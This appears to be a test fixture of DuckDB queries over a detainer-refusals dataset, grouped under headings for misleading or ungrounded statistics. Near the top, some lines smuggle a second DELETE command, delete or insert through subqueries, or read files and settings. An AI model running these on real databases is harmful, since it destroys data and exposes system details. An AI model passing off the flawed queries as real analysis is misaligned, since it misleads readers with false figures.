SELECT [10, 20, 30][row_no] FROM refusals
SELECT string_split('1,2', ',')[1], county FROM refusals
SELECT 0 AS declined, county FROM refusals
SELECT state, 0 AS declined FROM refusals GROUP BY state UNION ALL SELECT state, count(*) FROM refusals GROUP BY state
SELECT arg_max(4231, row_no) FROM refusals
SELECT quantile_cont(4231, 0.5) FROM refusals
SELECT mode(5) FROM refusals
SELECT any_value(5) FROM refusals
SELECT nth_value(7, 1) OVER (ORDER BY row_no) FROM refusals
SELECT lag(7) OVER (ORDER BY row_no), county FROM refusals
SELECT sum(5) OVER () AS n, county FROM refusals
SELECT list(5)[1] AS n, county FROM refusals
SELECT max(CASE WHEN county = 'Travis' THEN 142 END) FROM refusals
SELECT (CASE WHEN county = 'Travis' THEN 1 ELSE 0 END) * 142 FROM refusals
SELECT (county = 'Travis')::INT * 142 FROM refusals
SELECT bool_or(county = 'Travis')::INT + 141 FROM refusals
SELECT -5 AS n, county FROM refusals
SELECT - - 5 AS n, county FROM refusals
SELECT +5 AS n, county FROM refusals
SELECT 1e3 AS n, county FROM refusals
SELECT 0x10 AS n, county FROM refusals
SELECT '0x10' AS n, county FROM refusals
SELECT '１２３' AS n, county FROM refusals
SELECT '~300' AS n, county FROM refusals
SELECT INTERVAL 45 DAY AS wait, county FROM refusals
SELECT TIMESTAMP '2017-01-01 00:00:00' AS t, county FROM refusals
SELECT CAST('2017-01-01' AS DATE) AS t, county FROM refusals
SELECT '2017-01-01'::DATE AS t, count(*) FROM refusals
SELECT greatest(declined_on, DATE '2017-02-10') FROM refusals
SELECT avg(issued) * 1.5 FROM issued
SELECT sum(issued) / 4 FROM issued
SELECT sum(issued) * 52 / 3 FROM issued
SELECT count(*) / 7.0 FROM refusals
SELECT round(count(*) * 1.0 / 7, 1) FROM refusals
SELECT sum(issued_nationwide) / 7 AS per_day FROM reports
SELECT max(issued_on) + 7 FROM refusals
SELECT 100 * count(*) FROM refusals
SELECT 100.0 * sum(issued) FROM issued
SELECT 100 * (100.0 * count(*) FILTER (WHERE withdrawn) / count(*)) FROM refusals
SELECT sum(100 * issued) FROM issued
SELECT 1.0 / count(*) FROM refusals
SELECT 100.0 / count(*) FROM refusals
SELECT mod(count(*), 7) FROM refusals
SELECT count(*) # 2 FROM refusals
SELECT count(*) << 3 FROM refusals
SELECT count(*) | 64 FROM refusals
SELECT xor(count(*), 4231) FROM refusals
SELECT ~count(*) FROM refusals
SELECT count(*)! FROM refusals
SELECT gamma(count(*)) FROM refusals
SELECT bit_count(count(*)) FROM refusals
SELECT count(*) ^ 2 FROM refusals
SELECT exp(5) * count(*) FROM refusals
SELECT sqrt(16) + count(*) FROM refusals
SELECT count(*) FROM refusals HAVING count(*) > 5 OR true
SELECT county FROM refusals ORDER BY (SELECT content FROM read_text('/x'))
SELECT county FROM refusals WHERE county = (SELECT current_setting('home_directory'))
SELECT county FROM refusals LIMIT ALL
SELECT county FROM refusals LIMIT NULL
SELECT county FROM refusals FETCH FIRST 5 ROWS ONLY; DELETE FROM refusals
TABLE refusals
SELECT * FROM refusals FOR UPDATE
SELECT ALL county FROM duckdb_tables
WITH x AS (DELETE FROM refusals RETURNING *) SELECT * FROM x
SELECT * FROM (INSERT INTO refusals SELECT * FROM refusals)
SELECT count(*) FROM refusals r, LATERAL (SELECT q.county FROM refusals q WHERE q.state = r.state) x
SELECT x.county FROM refusals r, LATERAL (SELECT q.county FROM refusals q WHERE q.state = r.state LIMIT 3) x
SELECT sum(x.n) FROM refusals r, LATERAL (SELECT count(*) AS n FROM policies p WHERE p.state = r.state) x
SELECT sum(x.n) FROM refusals r CROSS JOIN (SELECT count(*) AS n FROM policies) x
SELECT count(*) FROM reports p JOIN LATERAL (SELECT county FROM refusals r WHERE r.report_id = p.report_id ORDER BY row_no LIMIT 2) x ON true
SELECT count(*) FROM refusals TABLESAMPLE reservoir(20%)
SELECT DISTINCT ON (state) state, count(*) OVER () FROM refusals
SELECT count(*) FROM (SELECT DISTINCT ON (state) state, county FROM refusals)

--# [ungrounded] Figures taken apart or put together as text, rounded away, multiplied with one another
SELECT round(count(*), -2) AS declined FROM refusals
SELECT sum(row_no) AS declined FROM refusals
SELECT sum(page) AS declined FROM refusals
SELECT sum(year(declined_on)) AS declined FROM refusals
SELECT left(count(*)::VARCHAR, 1) AS declined FROM refusals
SELECT substring(CAST(count(*) AS VARCHAR), 1, 2) AS declined FROM refusals
SELECT replace(count(*)::VARCHAR, '1', '') AS declined FROM refusals
SELECT reverse(count(*)::VARCHAR) AS declined FROM refusals
SELECT trim(count(*)::VARCHAR, '1') AS declined FROM refusals
SELECT count(*)::VARCHAR || count(*)::VARCHAR AS declined FROM refusals
SELECT count(*) || '' || count(DISTINCT state) AS declined FROM refusals
SELECT concat(count(*), count(DISTINCT state)) AS declined FROM refusals
SELECT (count(*)::VARCHAR)[1:1] AS declined FROM refusals
SELECT split_part(count(*)::VARCHAR, '1', 1) AS declined FROM refusals
SELECT regexp_extract(count(*)::VARCHAR, '[0-9]') AS declined FROM refusals
SELECT regexp_replace(count(*)::VARCHAR, '[0-9]', '', 'g') || 'x' AS declined FROM refusals
SELECT length(count(*)::VARCHAR) AS declined FROM refusals
SELECT CAST(count(*) AS BOOLEAN) AS declined FROM refusals
SELECT CAST(count(*) AS BOOLEAN)::INT AS declined FROM refusals
SELECT CAST(100.0 * count(*) FILTER (WHERE state = 'Texas') / count(*) AS DATE) AS d FROM refusals
SELECT trunc(count(*), -1) AS declined FROM refusals
SELECT count(*) * (SELECT count(*) FROM reports) AS declined FROM refusals
SELECT count(*) + max(row_no) AS declined FROM refusals
SELECT sum(epoch(declined_on)) AS declined FROM refusals

--# [ungrounded] Counts of what is never NULL, shares of themselves, averages of one number
SELECT 100.0 * count(*) / count(*) AS pct FROM refusals
SELECT 100.0 * count(*) FILTER (WHERE disposition = 'conviction') / count(*) FILTER (WHERE disposition = 'conviction') AS pct_convicted FROM refusals
SELECT count(CASE WHEN disposition = 'conviction' THEN 1 ELSE 0 END) AS convicted FROM refusals
SELECT count(disposition = 'conviction') AS convicted FROM refusals
SELECT count(facility IS NOT NULL) AS with_facility FROM refusals
SELECT count(disposition = 'conviction' OR NULL IS NULL) AS convicted FROM refusals
SELECT avg(CASE WHEN disposition = 'conviction' THEN 1 END) AS share_convicted FROM refusals
SELECT sum(CASE WHEN disposition = 'conviction' THEN 1 ELSE 1 END) AS convicted FROM refusals
SELECT state, count(*) / sum(count(*)) OVER (PARTITION BY state) AS share FROM refusals GROUP BY state
SELECT count(CASE WHEN state = 'Texas' THEN 'x' ELSE 'y' END) AS texas FROM refusals
SELECT count(if(state = 'Texas', 1, 0)) AS texas FROM refusals
SELECT count(coalesce(facility, 'none')) AS with_facility FROM refusals
SELECT count(withdrawn) AS withdrawn FROM refusals
SELECT count(x) AS convicted FROM (SELECT disposition = 'conviction' AS x FROM refusals)
SELECT count(state ILIKE 'T%') AS n FROM refusals
SELECT count(state IN ('Texas')) AS n FROM refusals
SELECT count(NOT withdrawn) AS n FROM refusals
SELECT count(starts_with(state, 'T')) AS n FROM refusals
SELECT count(CASE WHEN state = 'Texas' THEN 1 WHEN state = 'Ohio' THEN 0 ELSE 0 END) AS n FROM refusals
SELECT count(state = 'Texas') OVER () AS n, county FROM refusals
SELECT count(ifnull(facility, '')) AS n FROM refusals
SELECT median(CASE WHEN state = 'Texas' THEN 1 END) AS n FROM refusals
SELECT avg(CASE WHEN state = 'Texas' THEN 100 END) AS pct FROM refusals
SELECT avg(CASE WHEN state = 'Texas' THEN 1 WHEN state = 'Ohio' THEN 1 END) AS n FROM refusals
SELECT avg(if(state = 'Texas', 1, NULL)) AS n FROM refusals
SELECT 100.0 * count(*) / nullif(count(*), 0) AS pct FROM refusals
SELECT round(100.0 * count(*)) / count(*)::DOUBLE AS pct FROM refusals
SELECT count(*) * 1.0 - count(*) AS n FROM refusals
SELECT n / m AS share FROM (SELECT count(*) AS n, count(*) AS m FROM refusals)
SELECT state, 100.0 * n / sum(n) OVER (PARTITION BY state) AS pct FROM (SELECT state, count(*) AS n FROM refusals GROUP BY state)
SELECT state, county, rank() OVER (PARTITION BY state, county ORDER BY count(*) DESC) AS place FROM refusals GROUP BY state, county
SELECT rank() OVER () AS place, state FROM refusals GROUP BY state
SELECT dense_rank() OVER (PARTITION BY state) AS place, county FROM refusals
SELECT percent_rank() OVER () AS p, county FROM refusals
SELECT count(*) FILTER (WHERE state = 'Texas') * 100.0 / count(*) AS pct FROM refusals WHERE state = 'Texas'
SELECT avg(count(*)) OVER (PARTITION BY state) AS mean, state FROM refusals GROUP BY state
SELECT count(*) FILTER (WHERE state = 'Texas') AS ohio FROM refusals WHERE state = 'Ohio'
SELECT sum(CASE WHEN state = 'Texas' THEN 1 ELSE 0 END) AS texas FROM refusals WHERE state = 'Ohio'

--# [ungrounded] Conditions that NULL, the calendar or a function decide for every row
SELECT count(*) AS declined FROM refusals WHERE state NOT IN ('Texas', NULL)
SELECT count(*) AS declined FROM refusals WHERE state = NULL
SELECT count(*) AS declined FROM refusals WHERE state <> NULL
SELECT count(*) AS declined FROM refusals WHERE NOT (state = NULL)
SELECT count(*) AS declined FROM refusals WHERE state IN (NULL)
SELECT count(*) AS declined FROM refusals WHERE (state = 'Texas') IN (true, false)
SELECT count(*) AS declined FROM refusals WHERE (state = 'Texas') IS NOT NULL
SELECT count(*) AS declined FROM refusals WHERE row_no < row_no + 1
SELECT count(*) AS declined FROM refusals WHERE list_contains([state], state)
SELECT count(*) FROM refusals WHERE state = NULL OR county = 'Travis'
SELECT count(*) FROM refusals WHERE county NOT IN (SELECT county FROM policies)
SELECT count(*) FROM refusals WHERE NOT (county IN (SELECT county FROM policies))
SELECT count(*) FROM refusals WHERE county <> ALL (SELECT county FROM policies)
SELECT count(*) FROM refusals WHERE state BETWEEN NULL AND 'Z'
SELECT count(*) FROM refusals WHERE state LIKE NULL
SELECT count(*) FROM refusals WHERE declined_on > NULL::DATE
SELECT count(*) FROM refusals WHERE state = CAST(NULL AS VARCHAR)
SELECT count(*) FROM refusals WHERE state = nullif('Texas', 'Texas')
SELECT count(*) FROM refusals WHERE state = CASE WHEN county = 'Travis' THEN NULL END
SELECT count(*) FILTER (WHERE state = NULL) FROM refusals
SELECT count_if(state = NULL) FROM refusals
SELECT sum(CASE WHEN state = NULL THEN 1 ELSE 0 END) FROM refusals
SELECT count(*) FROM refusals r JOIN reports p ON r.report_id = p.report_id AND r.state = NULL
SELECT state, count(*) FROM refusals GROUP BY state HAVING state <> NULL
SELECT count(*) FROM refusals WHERE withdrawn IN (true, false)
SELECT count(*) FROM refusals WHERE declined_on <= last_day(declined_on)
SELECT count(*) FROM refusals WHERE declined_on >= date_trunc('month', declined_on)
SELECT count(*) FROM refusals WHERE declined_on < declined_on + INTERVAL 1 DAY
SELECT count(*) FROM refusals WHERE declined_on > declined_on - 7
SELECT count(*) FROM refusals WHERE row_no * 2 >= row_no
SELECT count(*) FROM refusals WHERE month(declined_on) BETWEEN 1 AND 12
SELECT count(*) FROM refusals WHERE month(declined_on) > 0
SELECT count(*) FROM refusals WHERE day(declined_on) <= 31
SELECT count(*) FROM refusals WHERE month(declined_on) = 13
SELECT count(*) FROM refusals WHERE isodow(declined_on) = 0
SELECT count(*) FROM refusals WHERE dayofweek(declined_on) = 7
SELECT count(*) FROM refusals WHERE upper(state) = 'Texas'
SELECT count(*) FROM refusals WHERE lower(state) = 'Texas'
SELECT count(*) FROM refusals WHERE trim(state) = ' Texas'
SELECT count(*) FROM refusals WHERE left(state, 2) = 'Texas'
SELECT count(*) FROM refusals WHERE lower(state) LIKE 'Tex%'
SELECT count(*) FROM refusals WHERE dayname(declined_on) = 'sunday'
SELECT count(*) FROM refusals WHERE strftime(declined_on, '%Y-%m') = '2017-2'
SELECT count(*) FROM refusals WHERE strftime(declined_on, '%Y') = '17'
SELECT count(*) FROM refusals WHERE row_no > -1
SELECT count(*) FROM refusals WHERE page < 0
SELECT count(*) FROM refusals WHERE state IN (SELECT r.state FROM refusals r WHERE r.state IS NOT NULL)

--# [ungrounded] Samples in subqueries, subqueries without rows, figures asked in every group
SELECT (SELECT issued FROM issued LIMIT 1) AS issued FROM reports LIMIT 1
SELECT max(i.issued) * count(*) AS issued FROM issued i JOIN refusals r USING (report_id, county, state)
SELECT r.county, p.policy FROM refusals r JOIN policies p ON r.row_no = p.row_no AND r.report_id = p.report_id
SELECT sum(r.n) AS total FROM (SELECT rank() OVER (ORDER BY count(*) DESC) AS n FROM refusals GROUP BY state) r
SELECT state, cume_dist() OVER () AS share FROM refusals
SELECT (SELECT issued FROM issued LIMIT 1) AS issued, report_id FROM reports
SELECT county FROM refusals WHERE state IN (SELECT state FROM refusals LIMIT 3)
SELECT county FROM refusals r JOIN (SELECT report_id FROM reports LIMIT 1) p USING (report_id)
SELECT county FROM refusals GROUP BY CUBE (report_id, row_no, state, county, facility, citizenship, issued_on, declined_on)
SELECT count(*)FROM refusals
SELECT count(*) FROM refusals --WHERE state = 'Texas'
SELECT sum(total) FROM (SELECT state, (SELECT count(*) FROM refusals) AS total FROM refusals GROUP BY state)
SELECT avg(total) FROM (SELECT r.state, (SELECT sum(i.issued) FROM issued i) AS total FROM refusals r)
SELECT count(*) FROM refusals r WHERE r.state IN (SELECT r.state)
SELECT count(*) FROM refusals r WHERE r.state = (SELECT r.state)
SELECT count(DISTINCT r.row_no) AS declined FROM refusals r JOIN policies p USING (report_id, county, state)
SELECT count(DISTINCT row_no) AS declined FROM refusals

--# [resource] Too many groupings
SELECT county FROM refusals GROUP BY CUBE (report_id, row_no, state, county, facility, citizenship, issued_on, declined_on, activity, offense, disposition, page)

--# [multi] A carriage return that ends no line
SELECT count(*)FROM refusals
SELECT count(*), 'of 4231' AS total FROM refusals

--# [ungrounded] Row numbers, pages, ranks and months are no quantities
SELECT state, sum(page) AS declined FROM refusals GROUP BY state
SELECT sum(n) FROM (SELECT row_no AS n FROM refusals)
SELECT sum(month(declined_on)) AS declined FROM refusals
SELECT sum(page_from) AS p FROM policies
SELECT sum(row_no) OVER () AS s, county FROM refusals
SELECT sum(dense_rank) FROM (SELECT dense_rank() OVER (ORDER BY count(*)) AS dense_rank FROM refusals GROUP BY state)
SELECT count(*) + row_no AS n FROM refusals GROUP BY row_no
SELECT r.county, s.county AS other FROM refusals r JOIN policies s ON r.row_no = s.row_no

--# [ungrounded] Figures in labels and column names
SELECT count(*) AS n, 'of 4231' AS total FROM refusals
SELECT state, count(*) AS n, 'up 340% on last week' AS trend FROM refusals GROUP BY state
SELECT state, CASE WHEN count(*) > 5 THEN 'more than 900' ELSE 'fewer' END AS size FROM refusals GROUP BY state
SELECT coalesce(facility, 'about 1,200 beds') AS facility, count(*) AS n FROM refusals GROUP BY 1
SELECT 'Texas: 142 declined' AS label, count(*) AS n FROM refusals WHERE state = 'Texas'
SELECT count(*) AS "4231 declined" FROM refusals
SELECT count(*) AS "declined (of 4,231)" FROM refusals
SELECT state AS "142 in Texas", count(*) AS n FROM refusals GROUP BY 1
SELECT 'forty-two thousand' AS declined, count(*) AS n FROM refusals
SELECT '①②' AS declined, count(*) AS n FROM refusals
SELECT state, 'source: page 999' AS note, count(*) AS n FROM refusals GROUP BY state

--# [ungrounded] A third round: conditions that exclude one another in different places, figures in texts
SELECT state, 'rank 97 of 140' AS note, count(*) AS n FROM refusals GROUP BY state
SELECT state, if(count(*) > 3, 'over 5,000', 'few') AS size FROM refusals GROUP BY state
SELECT min(CASE WHEN state = 'Texas' THEN 'declined 4231' END) AS note, count(*) FROM refusals
SELECT first_value('of 4231') OVER (ORDER BY state) AS note, state FROM refusals
SELECT lag(state, 1, 'none of 4231') OVER (ORDER BY state, county) AS note FROM refusals GROUP BY state, county
SELECT nullif('of 4231', state) AS note, count(*) FROM refusals GROUP BY state
SELECT ifnull(state, '4231 unknown') AS note, count(*) FROM refusals GROUP BY 1
SELECT CASE WHEN count(*) > 2 THEN 'more than 2' ELSE 'exactly 999' END AS x FROM refusals
SELECT len(string_split('a,b,c,d,' || state, ',')) AS declined FROM refusals
SELECT year(declined_on) * count(*) AS declined FROM refusals GROUP BY declined_on
SELECT sum(quarter(declined_on)) AS q FROM refusals
SELECT sum(CASE WHEN state = 'Texas' THEN row_no END) AS n FROM refusals
SELECT sum(row_no) FILTER (WHERE state = 'Texas') AS n FROM refusals
SELECT sum(n) FROM (SELECT max(row_no) AS n FROM refusals GROUP BY report_id)
SELECT sum(rn) FROM (SELECT row_number() OVER (ORDER BY declined_on, row_no) AS rn FROM refusals)
SELECT count(*) + rank() OVER (ORDER BY count(*)) AS n, state FROM refusals GROUP BY state
SELECT count(*) * sum(count(*)) OVER () AS n, state FROM refusals GROUP BY state
SELECT n * m AS declined FROM (SELECT count(*) AS n, count(DISTINCT state) AS m FROM refusals)
SELECT sum(i.issued * j.issued) AS n FROM issued i JOIN issued j USING (report_id, county, state)
SELECT count(*) FILTER (WHERE state = 'Texas') / count(*) AS share FROM refusals WHERE state = 'Texas'
SELECT count_if(state = 'Texas') AS n FROM refusals WHERE state <> 'Texas'
SELECT count(*) FILTER (WHERE declined_on > DATE '2017-02-10') AS n FROM refusals WHERE declined_on < DATE '2017-02-01'
SELECT sum(CASE WHEN disposition = 'charge' THEN 1 ELSE 0 END) AS n FROM refusals WHERE disposition = 'conviction'
WITH t AS (SELECT * FROM refusals WHERE state = 'Ohio') SELECT count(*) FILTER (WHERE state = 'Texas') AS n FROM t
WITH t AS (SELECT * FROM refusals WHERE state = 'Ohio') SELECT count(*) AS n FROM t WHERE state = 'Texas'
SELECT count(*) AS n FROM (SELECT * FROM refusals WHERE report_id = '2017-01-28') WHERE report_id = '2017-02-04'
SELECT state, count(*) AS n FROM refusals WHERE state = 'Ohio' GROUP BY state HAVING state = 'Texas'
SELECT count(*) FROM refusals r JOIN reports p ON p.report_id = r.report_id AND p.report_id = '2017-01-28' WHERE r.report_id = '2017-02-04'
SELECT count(*) FROM refusals r SEMI JOIN reports p ON p.report_id = r.report_id AND r.state = 'Ohio' WHERE r.state = 'Texas'
SELECT count(*) FROM refusals WHERE state || county = county || state
SELECT count(*) FROM refusals WHERE abs(row_no) = row_no
SELECT count(*) FROM refusals WHERE round(row_no) = row_no
SELECT count(*) FROM refusals WHERE row_no // 1 = row_no
SELECT count(*) FROM refusals WHERE strftime(declined_on, '%Y-%m-%d')::DATE = declined_on
SELECT count(*) FROM refusals WHERE age(declined_on, declined_on) = INTERVAL 0 DAY
SELECT count(*) FROM refusals WHERE date_diff('day', declined_on, declined_on) = 0
SELECT count(*) FROM refusals WHERE levenshtein(state, state) = 0
SELECT count(*) FROM refusals WHERE replace(state, 'zzz', '') = state
SELECT count(*) FROM refusals WHERE greatest(state, state) = state
SELECT count(*) FROM refusals WHERE least(state, 'zzzz') = state
SELECT count(*) FROM refusals WHERE list_contains(list_value(state, county), state)
SELECT count(*) FROM refusals WHERE (state = 'Texas') <> (state <> 'Texas')

--# [misleading] Nothing harmful: unlike figures added, means of means, shares of themselves, samples, half joins, wrong names
SELECT state, count(*) + length('xxxxx') AS declined FROM refusals GROUP BY state
SELECT year(DATE '4231-01-01') AS declined FROM refusals LIMIT 1
SELECT date_diff('day', DATE '2000-01-01', DATE '2011-08-01') AS declined, count(*) AS n FROM refusals
SELECT DATE '2011-08-01' - DATE '2000-01-01' AS declined FROM reports
SELECT state, count(*) * extract(day FROM INTERVAL 3 DAY) AS n FROM refusals GROUP BY state
SELECT state, position('z' IN 'aaaaaaaaaaaaaz') AS declined FROM refusals GROUP BY state
SELECT max(length(state)) AS declined FROM refusals
SELECT sum(length(offense)) AS declined FROM refusals
SELECT avg(length(county)) * 10 AS share FROM refusals
SELECT count(*) << 2 AS n FROM refusals
SELECT exp(ln(count(*)) + ln(count(*))) AS n FROM refusals
SELECT sqrt(count(*)) AS declined FROM refusals
SELECT pi() * count(*) AS n FROM refusals
SELECT bit_count(count(*)) AS n FROM refusals
SELECT ascii(state) AS n FROM refusals
SELECT hash(state) AS declined FROM refusals
SELECT state, list_sum(list(row_no)) AS n FROM refusals GROUP BY state
SELECT list_sum([100, 200, 300]) AS declined, count(*) FROM refusals
SELECT list_max(list_value(count(*), 900)) AS declined FROM refusals
SELECT [count(*), 900][2] AS declined FROM refusals
SELECT {'n': 900}.n AS declined, count(*) FROM refusals
SELECT struct_extract({'a': count(*), 'b': 900}, 'b') AS n FROM refusals
SELECT map {'a': 900}['a'] AS n, count(*) FROM refusals
SELECT CASE WHEN state = 'Texas' THEN 900 ELSE count(*) END AS n FROM refusals GROUP BY state
SELECT if(count(*) > 0, 900, count(*)) AS n FROM refusals
SELECT max(CASE WHEN disposition = 'charge' THEN 42 ELSE row_no END) AS n FROM refusals
SELECT coalesce(nullif(count(*), count(*)), 900) AS n FROM refusals
SELECT TRY_CAST('900' AS INT) AS declined, count(*) FROM refusals
SELECT '900'::INT + count(*) AS n FROM refusals
SELECT to_days(900) AS declined FROM refusals LIMIT 5
SELECT count(*) AS "900 refusals" FROM refusals
SELECT 'nine hundred' AS declined FROM refusals LIMIT 1
SELECT state || ': nine hundred' AS declined FROM refusals GROUP BY state
SELECT chr(57) || chr(48) AS declined FROM refusals
SELECT round(count(*), -2) AS n FROM refusals
SELECT trunc(avg(issued), -3) AS n FROM issued
SELECT count(*) % 7 AS declined FROM refusals
SELECT greatest(count(*), (SELECT max(pages) FROM reports)) AS declined FROM refusals
SELECT sum(pages) AS declined FROM reports
SELECT count(*) * (SELECT max(pages) FROM reports) AS declined FROM refusals
SELECT max(page) AS declined FROM refusals WHERE state = 'Texas' AND page * 2 > 0
SELECT r.state, sum(i.issued) AS issued, count(*) AS declined FROM refusals r JOIN issued i ON i.state = r.state GROUP BY r.state
SELECT r.state, sum(p.issued_nationwide) AS issued FROM refusals r JOIN reports p USING (report_id) GROUP BY r.state
SELECT r.state, avg(p.issued_nationwide) AS issued FROM refusals r JOIN reports p USING (report_id) GROUP BY r.state
SELECT sum(i.issued) FILTER (WHERE r.disposition = 'charge') AS issued FROM issued i JOIN refusals r USING (report_id, county, state)
SELECT p.state, count(r.row_no) AS declined FROM policies p JOIN refusals r ON r.county = p.county AND r.state = p.state GROUP BY p.state
SELECT p.aor, count(*) AS declined FROM policies p JOIN refusals r USING (report_id, county, state) GROUP BY p.aor
SELECT a.state, count(*) AS n FROM refusals a JOIN refusals b ON a.county = b.county AND a.state = b.state GROUP BY a.state
SELECT sum(x.n) FROM (SELECT r.report_id, r.county, r.state, count(*) AS n FROM refusals r GROUP BY ALL) x JOIN policies p ON p.county = x.county AND p.state = x.state
SELECT sum(a.n) AS n FROM (SELECT state, count(*) AS n FROM refusals GROUP BY state) a JOIN (SELECT DISTINCT state, county FROM issued) b ON a.state = b.state
WITH d AS (SELECT report_id, state, count(*) AS n FROM refusals GROUP BY ALL) SELECT i.state, sum(d.n) AS declined, sum(i.issued) AS issued FROM issued i LEFT JOIN d USING (report_id, state) GROUP BY i.state
SELECT r.county, count(*) AS n FROM refusals r LEFT JOIN corrections c ON c.county = r.county AND c.state = r.state GROUP BY r.county
SELECT count(*) AS n FROM refusals r LEFT JOIN caveats c ON c.report_id = r.report_id AND c.section = 'II'
SELECT sum(n) FROM (SELECT state, count(*) AS n FROM refusals GROUP BY state UNION ALL SELECT 'all', count(*) FROM refusals)
SELECT sum(n) FROM (SELECT state, county, count(*) AS n FROM refusals GROUP BY ROLLUP (state, county))
SELECT avg(n) FROM (SELECT state, county, count(*) AS n FROM refusals GROUP BY GROUPING SETS ((state), (state, county)))
SELECT sum(n) FROM (SELECT report_id, sum(count(*)) OVER (ORDER BY report_id) AS n FROM refusals GROUP BY report_id)
SELECT state, sum(total) AS n FROM (SELECT state, count(*) OVER (PARTITION BY state) AS total FROM refusals) GROUP BY state
SELECT sum(declined_stated) + count(*) AS n FROM reports JOIN refusals USING (report_id)
SELECT count(*) AS n FROM (SELECT * FROM refusals UNION ALL SELECT * FROM refusals)
SELECT count(*) AS n FROM (SELECT county, state FROM refusals UNION ALL SELECT county, state FROM issued)
SELECT sum(n) AS n FROM (SELECT count(*) AS n FROM refusals WHERE state = 'Texas' UNION ALL SELECT count(*) FROM refusals WHERE county = 'Travis')
SELECT sum(n) AS n FROM (SELECT count(*) AS n FROM refusals WHERE disposition = 'charge' UNION ALL SELECT count(*) FROM refusals WHERE state = 'California')
SELECT count(*) FILTER (WHERE state = 'Texas') + count(*) FILTER (WHERE disposition = 'charge') AS n FROM refusals
SELECT count(*) FILTER (WHERE state = 'Texas') + count(*) AS n FROM refusals
SELECT sum(CASE WHEN state = 'Texas' THEN 1 ELSE 0 END) + sum(CASE WHEN county = 'Travis' THEN 1 ELSE 0 END) AS n FROM refusals
SELECT count(*) FILTER (WHERE disposition = 'charge') * 100.0 / count(*) AS pct FROM refusals WHERE disposition = 'charge'
SELECT sum(CASE WHEN state = 'Texas' THEN 1 ELSE 0 END) * 1.0 / count(*) AS texas_share FROM refusals WHERE state = 'Texas'
SELECT state, count(*) FILTER (WHERE state = 'Texas') * 100.0 / count(*) AS pct FROM refusals GROUP BY state
SELECT state, 100.0 * count(*) / sum(count(*)) OVER (PARTITION BY state) AS pct FROM refusals GROUP BY state
SELECT state, county, 100.0 * count(*) / sum(count(*)) OVER (PARTITION BY state, county) AS pct FROM refusals GROUP BY state, county
SELECT avg(pct) AS pct FROM (SELECT state, 100.0 * count(*) FILTER (WHERE disposition = 'conviction') / count(*) AS pct FROM refusals GROUP BY state)
SELECT sum(pct) AS pct FROM (SELECT report_id, 100.0 * count(*) FILTER (WHERE disposition = 'conviction') / count(*) AS pct FROM refusals GROUP BY report_id)
SELECT avg(a) AS mean_days FROM (SELECT state, avg(declined_on - issued_on) AS a FROM refusals GROUP BY state)
SELECT sum(m) AS days FROM (SELECT state, median(declined_on - issued_on) AS m FROM refusals GROUP BY state)
WITH x AS (SELECT report_id, avg(issued) AS a FROM issued GROUP BY report_id) SELECT sum(a) AS issued FROM x
WITH x AS (SELECT county, state, round(100.0 * count(*) / (SELECT count(*) FROM refusals), 1) AS pct FROM refusals GROUP BY county, state) SELECT avg(pct) FROM x
SELECT avg(declined_stated / issued_nationwide) AS rate FROM reports
SELECT sum(declined_stated / issued_nationwide) AS rate FROM reports
SELECT 100.0 * (SELECT count(*) FROM refusals) / (SELECT sum(issued) FROM issued WHERE state = 'Texas') AS rate
SELECT 100.0 * (SELECT count(*) FROM refusals WHERE state = 'Texas') / (SELECT sum(issued) FROM issued WHERE state = 'California') AS rate
SELECT r.state, 100.0 * count(*) / (SELECT count(*) FROM policies) AS rate FROM refusals r GROUP BY r.state
SELECT count(*) / (SELECT max(row_no) FROM refusals) AS share FROM refusals WHERE state = 'Texas'
SELECT count(DISTINCT county) * 100.0 / count(*) AS pct FROM refusals
SELECT sum(n) * 100.0 / count(*) AS pct FROM (SELECT state, count(*) AS n FROM refusals GROUP BY state)
SELECT count(DISTINCT offense) AS declined FROM refusals WHERE state = 'Texas' AND 1 = 1
SELECT count(*) AS declined FROM (SELECT DISTINCT state, county, offense FROM refusals)
SELECT state, count(*) AS declined FROM (SELECT DISTINCT state, county, declined_on FROM refusals) GROUP BY state
SELECT count(*) AS declined FROM (SELECT state, county, declined_on FROM refusals UNION SELECT state, county, declined_on FROM refusals)
SELECT sum(issued) FROM (SELECT DISTINCT issued FROM issued)
SELECT sum(issued) AS issued FROM (SELECT DISTINCT county, issued FROM issued)
SELECT sum(DISTINCT issued) AS issued FROM issued
SELECT avg(DISTINCT issued) AS issued FROM issued
SELECT sum(DISTINCT declined_stated) AS declined FROM reports
SELECT median(DISTINCT declined_on - issued_on) AS days FROM refusals
SELECT sum(issued) FROM (SELECT DISTINCT ON (state) state, issued FROM issued ORDER BY state, issued DESC)
SELECT count(*) AS declined FROM (SELECT * FROM refusals QUALIFY row_number() OVER (PARTITION BY offense ORDER BY declined_on) = 1)
SELECT count(*) AS declined FROM (SELECT row_no FROM refusals GROUP BY row_no)
SELECT sum(n) FROM (SELECT DISTINCT n FROM (SELECT state, count(*) AS n FROM refusals GROUP BY state))
SELECT county, count(*) AS n FROM refusals GROUP BY county, county || state HAVING count(DISTINCT row_no) > 0
SELECT count(*) FROM refusals WHERE state = 'Texas' AND NOT state = 'Texas'
SELECT count(*) FROM refusals WHERE state = 'Texas' OR NOT state = 'Texas'
SELECT count(*) FROM refusals WHERE state <> 'Texas' OR state <> 'California'
SELECT count(*) FROM refusals WHERE declined_on <> DATE '2017-02-01' OR declined_on <> DATE '2017-02-02'
SELECT count(*) FROM refusals WHERE disposition = 'charge' AND disposition = 'conviction'
SELECT count(*) FROM refusals WHERE disposition = 'charge' OR disposition <> 'charge'
SELECT count(*) FROM refusals WHERE declined_on >= DATE '2017-03-01' AND declined_on < DATE '2017-02-01'
SELECT count(*) FROM refusals WHERE declined_on BETWEEN DATE '2017-02-28' AND DATE '2017-02-01'
SELECT count(*) FROM refusals WHERE withdrawn IS NOT NULL
SELECT count(*) FROM refusals WHERE state >= ''
SELECT count(*) FROM refusals WHERE state LIKE '%'
SELECT count(*) FROM refusals WHERE regexp_matches(state, '.*')
SELECT count(*) FROM refusals WHERE contains(state, '')
SELECT count(*) FROM refusals WHERE lower(county) LIKE '%Travis%'
SELECT count(*) FROM refusals WHERE month(declined_on) = 0
SELECT count(*) FROM refusals WHERE dayofweek(declined_on) > 7
SELECT count(*) FROM refusals WHERE CASE WHEN state = 'Texas' THEN true ELSE true END
SELECT count(*) FROM refusals WHERE state = 'Texas' AND state IN ('California', 'Oregon')
SELECT count(*) FROM refusals WHERE state = ALL (SELECT state FROM refusals WHERE state = 'Texas' AND state = 'Ohio')
